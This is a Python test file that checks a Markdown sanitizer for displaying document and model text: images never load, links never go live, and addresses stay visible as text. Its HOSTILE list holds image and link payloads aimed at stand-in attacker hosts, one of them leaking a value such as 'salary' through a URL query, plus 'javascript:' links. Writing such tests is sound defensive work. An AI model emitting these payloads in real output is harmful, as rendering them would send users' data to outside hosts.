"""Document and model text rendered safely: no image is loaded and no link is live, whatever the text holds;
the addresses stay visible as text, and ordinary Markdown still renders."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from ui.format import link_markers, safe_markdown

render = MarkdownIt("commonmark").enable("table").render

HOSTILE = [
    "Total ![x](http://attacker.example/pixel?q=salary) as agreed.",
    '![x](<http://attacker.example/p.png> "title")',
    "[click here](javascript:alert(1)) now",
    "[![badge](http://evil.example/b.svg)](http://evil.example/)",
    "![ref][pix]\n\n[pix]: http://attacker.example/ref.png",
    "[docs][d]\n\n[d]: http://attacker.example/",
    "<http://attacker.example/auto> and <img src=http://attacker.example/h.png>",
    "See http://attacker.example/bare?a=1 or www.attacker.example today.",
    "\\![escaped](http://attacker.example/e.png) and \\\\![double](http://attacker.example/d.png)",
    "`code` ![in text](http://attacker.example/after-code.png) `more`",
    "$x$ costs $5 :red[alert] [1] ![](http://attacker.example/empty-alt.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_renders_live(text: str) -> None:
    html = render(safe_markdown(text))
    assert "<img" not in html, html
    assert "<a " not in html, html
    for address in re.findall(r"(?:https?://|www\.)[^\s\")<>`]+", text):  # every address still visible
        assert address.split("?")[0] in html, (address, html)


def test_links_and_images_show_their_target_as_text() -> None:
    shown = safe_markdown("Pay ![logo](http://evil.example/p.png) via [our portal](https://pay.example/x).")
    assert shown == ("Pay \\[image: logo\\] (`http://evil.example/p.png`, not loaded) via "
                     "our portal (`https://pay.example/x`).")


def test_ordinary_markdown_still_renders() -> None:
    html = render(safe_markdown("## Budget\n\n- **rent** is *due* [1]\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert "<h2>Budget</h2>" in html and "<strong>rent</strong>" in html and "<em>due</em>" in html
    assert "[1]" in html and "<table>" in html


def test_dollars_are_not_maths_and_backslashes_cannot_undo_the_escaping() -> None:
    assert safe_markdown("costs $5 or $6") == "costs \\$5 or \\$6"
    assert "<img" not in render(safe_markdown("\\\\\\![a](http://e.example/x.png)"))


def test_citation_markers_stay_as_typed_but_cannot_become_references() -> None:
    assert safe_markdown("Curie discovered radium [1] and polonium [1, 2].") == \
        "Curie discovered radium [1] and polonium [1, 2]."
    html = render(safe_markdown("See [1] and ![1]\n\n[1]: http://attacker.example/r.png"))
    assert "<img" not in html and "<a " not in html and "[1]" in html


def test_citation_markers_become_in_page_links_and_nothing_else_does() -> None:
    doc = "Curie found **polonium** [1] [1, 3] <b>x</b> [evil](javascript:alert(1)) `[2]` [9]"
    shown = link_markers(safe_markdown(doc), "m7", {1, 2, 3})
    assert shown.startswith("Curie found **polonium** \\[[1](#cite-m7_1)\\] \\[[1](#cite-m7_1), [3](#cite-m7_3)\\]")
    assert "\\<b\\>x\\</b\\>" in shown  # the document's HTML stays escaped
    assert "](javascript" not in shown and "`javascript:alert(1`" in shown  # its link stays an inert address
    assert "`[2]`" in shown and shown.endswith("[9]")  # code spans and unknown citations are left as they were
    assert sum(1 for _ in re.finditer(r"\]\(#cite-", shown)) == 3  # the only links are the three markers


@pytest.mark.parametrize("text", HOSTILE)
def test_linked_markers_add_no_other_link_or_image(text: str) -> None:
    html = render(link_markers(safe_markdown(text), "m1", {1, 2}))
    assert "<img" not in html
    assert all(href.startswith("#cite-m1_") for href in re.findall(r'href="([^"]*)"', html)), html
